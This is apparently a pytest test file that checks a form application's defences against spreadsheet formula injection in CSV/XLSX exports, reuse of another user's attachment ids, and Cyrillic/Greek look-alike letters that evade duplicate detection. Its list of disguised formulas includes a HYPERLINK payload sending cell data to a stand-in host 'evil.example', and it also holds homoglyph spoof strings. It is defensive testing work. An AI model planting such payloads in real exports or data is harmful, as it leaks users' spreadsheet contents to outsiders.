"""Attacks through exports, attachments and look-alike names (issue 18, points 10, 14 and 16): a control character
in front of a formula in an export, another user's attachment id put into one's own record, and Cyrillic or Greek
letters slipping a duplicate past the duplicate check. Each test runs on SQLite and PostgreSQL (``app``)."""
from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings, strategies as st
from openpyxl import load_workbook

from engine import exports
from engine.dedup import NORMALIZERS
from engine.errors import ValidationFailed
from engine.runtime import Actor
from engine.services import forms as form_service, records as record_service

#: what a spreadsheet runs as a formula, after it skips spaces and invisible characters
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
#: cell values that are formulas in disguise: control characters or invisible ones before the formula, full-width signs
DISGUISED_FORMULAS = [
    '\u0001=HYPERLINK("http://evil.example/?leak="&A2,"Click")',   # the reported one
    "\b=1+1", "\x1b=1+1", "\x00=1+1", "\x7f@SUM(1+1)", "\x85-2+3",
    '＝HYPERLINK("http://evil.example")', "＋1+1", "＠SUM(A1)", "\u200b=1+1", "\ufeff=1+1", " =1+1",
]


def _live(cell_text: str) -> bool:
    """A cell a spreadsheet would run: its text, past spaces and invisible characters, starts like a formula."""
    return cell_text.lstrip(" \u00a0\u200b\u200c\u200d\u2060\ufeff").startswith(FORMULA_START)


# -- 10: formula injection -----------------------------------------------------------------

def test_attack_control_character_before_a_formula_in_xlsx_and_csv():
    rows = [["id", "name"]] + [[i, text] for i, text in enumerate(DISGUISED_FORMULAS, start=1)]
    book = load_workbook(exports.xlsx_file(iter(rows)), read_only=False)
    cells = [c for row in book.active.iter_rows(min_row=2) for c in row[1:]]
    assert len(cells) == len(DISGUISED_FORMULAS)
    for cell in cells:
        assert cell.data_type != "f" and not _live(str(cell.value)), repr(cell.value)
        assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in str(cell.value)), repr(cell.value)
    text = "".join(exports.csv_chunks(iter(rows))).lstrip("\ufeff")
    parsed = list(csv.reader(io.StringIO(text)))[1:]
    assert len(parsed) == len(DISGUISED_FORMULAS)
    for _, value in parsed:
        assert not _live(value) and "\x01" not in value and "\b" not in value, repr(value)


def test_attack_formula_export_through_the_api(app, client):
    rt = app.extensions["formflow"]
    system = Actor.system()
    form_service.create_app(rt, system, "notes", "Notes")
    form_service.create_form(rt, system, "notes", {"key": "note", "label": "Note", "fields": [{"id": "title", "type": "text"}]})
    form_service.publish_form(rt, system, "notes", "note")
    stored = []
    for text in [t for t in DISGUISED_FORMULAS if "\x00" not in t]:  # NUL bytes in values: point 17's business
        try:
            record_service.create_record(rt, system, "notes", "note", {"title": text})
            stored.append(text)
        except ValidationFailed:
            pass  # a value the record store refuses (a NUL byte, say) can't reach an export either
    assert {'＝HYPERLINK("http://evil.example")', "＋1+1", "＠SUM(A1)", "\u200b=1+1", " =1+1"} <= set(stored)
    workbook = client.get("/api/apps/notes/forms/note/records/export.xlsx")
    assert workbook.status_code == 200
    sheet = load_workbook(io.BytesIO(workbook.data)).active
    values = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert len(values) == len(stored)
    for cell in values:
        assert cell.data_type != "f" and not _live(str(cell.value or "")), repr(cell.value)
    table = client.get("/api/apps/notes/forms/note/records/export.csv")
    assert table.status_code == 200
    for row in list(csv.reader(io.StringIO(table.data.decode("utf-8-sig"))))[1:]:
        assert not _live(row[1]) and "\x01" not in row[1], repr(row[1])


# -- 14: attachments bound to their record and field ------------------------------------------

def _upload(person, content: bytes, field: str | None = "file") -> str:
    query = f"?app=files&form=doc&field={field}" if field else ""
    res = person.client.post(f"/api/attachments{query}", data={"file": (io.BytesIO(content), "a.txt")},
                             content_type="multipart/form-data")
    assert res.status_code == 201, res.get_json()
    return res.get_json()["id"]


def _refused(response, field: str) -> bool:
    if response.status_code != 422:
        return False
    items = response.get_json()["error"]["errors"]
    return any(i["path"] == f"/data/{field}" and i["code"] == "foreign_attachment" for i in items)


def test_attack_another_users_attachment_id_in_ones_own_record(app, people, files):
    ann, bob = people["ann"], people["bob"]
    secret = _upload(ann, b"ann's contract")
    created = ann.client.post(files, json={"data": {"title": "ann's", "file": secret}})
    assert created.status_code == 201
    # bob saw the id somewhere (a link, a log): putting it in his own record is refused, on create and on update
    assert _refused(bob.client.post(files, json={"data": {"title": "bob's", "file": secret}}), "file")
    own = bob.client.post(files, json={"data": {"title": "bob's"}})
    assert own.status_code == 201
    assert _refused(bob.client.patch(f"{files}/{own.get_json()['id']}", json={"data": {"file": secret}}), "file")
    assert bob.client.get(f"/api/attachments/{secret}").status_code == 404
    assert ann.client.get(f"/api/attachments/{secret}").data == b"ann's contract"
    # an upload of ann's not saved anywhere yet is hers alone to use
    fresh = _upload(ann, b"ann's draft")
    assert _refused(bob.client.post(files, json={"data": {"title": "bob's", "file": fresh}}), "file")
    unbound = _upload(ann, b"ann's loose file", field=None)
    assert _refused(bob.client.post(files, json={"data": {"title": "bob's", "file": unbound}}), "file")
    assert bob.client.get(f"/api/attachments/{fresh}").status_code == 404
    assert ann.client.post(files, json={"data": {"title": "ann's second", "file": unbound}}).status_code == 201


def test_attack_attachment_moved_to_another_record_or_field(app, people, files):
    ann, root = people["ann"], people["root"]
    first_file = _upload(ann, b"first")
    first = ann.client.post(files, json={"data": {"title": "one", "file": first_file}}).get_json()["id"]
    # the same user can't move a file to another record either: its download would follow another record's readers
    assert _refused(ann.client.post(files, json={"data": {"title": "two", "file": first_file}}), "file")
    # nor from the field it was uploaded for into a field with other readers
    visible = _upload(root, b"for the visible field")
    assert _refused(root.client.post(files, json={"data": {"title": "three", "secret_file": visible}}), "secret_file")
    assert root.client.post(files, json={"data": {"title": "three", "file": visible}}).status_code == 201
    # saving the record again with its own file is fine
    assert ann.client.patch(f"{files}/{first}", json={"data": {"title": "one, renamed", "file": first_file}}).status_code == 200


def test_attack_download_follows_the_bound_records_read_gate(app, rt, people, files):
    ann, root = people["ann"], people["root"]
    public, secret = _upload(root, b"public"), _upload(root, b"secret", field="secret_file")
    assert root.client.post(files, json={"data": {"title": "ann's", "file": public, "secret_file": secret},
                                         "owner_id": ann.id}).status_code == 201

    def status(person, attachment_id):
        return people[person].client.get(f"/api/attachments/{attachment_id}").status_code

    assert status("ann", public) == 200 and status("ann", secret) == 404   # her record, but the field is hidden
    assert status("bob", public) == 404                                     # not in his scope
    assert status("vic", public) == 200 and status("vic", secret) == 404    # a viewer reads all, the field is hidden
    assert status("root", public) == 200 and status("root", secret) == 200
    rid = root.client.get(files).get_json()["items"][0]["id"]
    assert root.client.delete(f"{files}/{rid}").status_code in (200, 204)
    assert status("ann", public) == 404 and status("vic", public) == 404   # a deleted record shows no file


# -- 16: duplicate check and confusable letters ------------------------------------------------

@pytest.mark.parametrize("original, lookalike", [
    ("Tesla Motors", "Тesla Motors"),            # Cyrillic capital Te
    ("Tesla Motors", "ΤESLA MOTORS"),            # Greek capital Tau, and case
    ("Acme Trading Co., Ltd.", "Аcmе Trаding"),  # Cyrillic a and e, company form dropped
    ("Bill Paxton Inc.", "BІLL PАXTON"),         # Cyrillic capital I and A
])
def test_attack_dedup_with_cyrillic_and_greek_lookalikes(app, client, original, lookalike):
    assert client.post("/api/app-templates/install", json={"template": "crm"}).status_code == 201
    first = client.post("/api/apps/crm/forms/customer/records", json={"data": {"name": original}})
    assert first.status_code == 201
    second = client.post("/api/apps/crm/forms/customer/records", json={"data": {"name": lookalike}})
    assert second.status_code == 409 and second.get_json()["error"]["errors"][0]["record_id"] == first.get_json()["id"]
    email = client.post("/api/apps/crm/forms/customer/records", json={"data": {"name": "Someone else", "email": "sales@acme.example"}})
    assert email.status_code == 201
    spoof = client.post("/api/apps/crm/forms/customer/records", json={"data": {"name": "Another one", "email": "sаles@аcme.example"}})
    assert spoof.status_code == 409
    assert client.post("/api/apps/crm/forms/customer/records", json={"data": {"name": "Иван Петров"}}).status_code == 201


#: Latin letters and look-alikes from other scripts (Cyrillic, Greek) that UTS #39 folds onto them
LOOKALIKES = {"a": "а", "c": "с", "e": "е", "o": "оο", "p": "рρ", "x": "х", "y": "у", "A": "АΑ", "B": "ВΒ", "E": "ЕΕ",
              "H": "НΗ", "K": "КΚ", "M": "МΜ", "O": "ОΟ", "P": "РΡ", "T": "ТΤ", "X": "ХΧ", "I": "ІΙ", "i": "і", "s": "ѕ", "j": "ј"}


@settings(max_examples=200, deadline=None)
@given(name=st.text(alphabet="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ ", min_size=1, max_size=24), data=st.data())
def test_attack_swapping_letters_for_lookalikes_never_changes_the_key(name, data):
    spoofed = "".join(data.draw(st.sampled_from(LOOKALIKES[ch] + ch)) if ch in LOOKALIKES else ch for ch in name)
    for normalizer in ("text", "company_name", "email"):
        normalize = NORMALIZERS.get(normalizer).normalize
        assert normalize(spoofed) == normalize(name), (normalizer, name, spoofed)


def test_attack_lookalike_of_a_name_saved_before_the_upgrade(app, client):
    """Keys stored by the old normalizer are recomputed by migration 0004_dedup_confusable_keys."""
    import sqlalchemy as sa
    from alembic import command

    from engine.storage.app_template_tables import dedup_keys
    from engine.storage.db import alembic_config

    rt = app.extensions["formflow"]
    assert client.post("/api/app-templates/install", json={"template": "crm"}).status_code == 201
    spoof = client.post("/api/apps/crm/forms/customer/records", json={"data": {"name": "Тesla Motors"}})  # Cyrillic Te
    assert spoof.status_code == 201
    with rt.db.transaction() as conn:  # the key as it was stored before look-alikes were folded
        conn.execute(sa.update(dedup_keys).where(dedup_keys.c.record_id == spoof.get_json()["id"], dedup_keys.c.rule == "name")
                     .values(key="тeslamotors"))
    with rt.db.engine.begin() as conn:
        command.downgrade(alembic_config(conn), "0002_app_templates_dedup")
        command.upgrade(alembic_config(conn), "heads")
    latin = client.post("/api/apps/crm/forms/customer/records", json={"data": {"name": "Tesla Motors"}})
    assert latin.status_code == 409 and latin.get_json()["error"]["errors"][0]["record_id"] == spoof.get_json()["id"]
